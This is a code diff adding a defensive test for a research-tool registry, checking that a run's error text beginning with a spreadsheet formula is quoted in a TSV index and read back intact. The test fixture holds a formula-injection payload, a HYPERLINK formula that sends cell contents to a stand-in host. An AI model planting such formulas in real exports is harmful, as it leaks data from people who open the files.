@@ -327,3 +327,22 @@ def test_an_imported_title_starting_a_formula_reaches_unique_tsv_neutralised(tmp
         "-Omics of cyclosporine response in autoimmune hepatitis": "+Hepatology Reports",
     }
     assert set(RECORD_COLUMNS) <= set(read_tsv(records)[0])
+
+
+def test_the_run_index_neutralises_a_formula_and_reads_it_back_as_written(tmp_path):
+    """results/runs/index.tsv is a table people open too: a run whose one-line error starts a
+    formula is listed with the quote and read back without it."""
+    from livingreview.runs.registry import RunEntry, list_runs, new_run_id, record_run
+
+    runs = tmp_path / "runs"
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+    run_id = new_run_id("manual")
+    record_run(
+        RunEntry(run_id, "manual", "2026-11-23", "x", status="failed", error=hostile), runs
+    )
+    text = (runs / "index.tsv").read_text(encoding="utf-8")
+    [_, cells] = list(csv.reader(io.StringIO(text), delimiter="\t"))
+    assert cells[-1] == "'" + hostile
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    [row] = list_runs(runs)
+    assert row["error"] == hostile and row["run_id"] == run_id
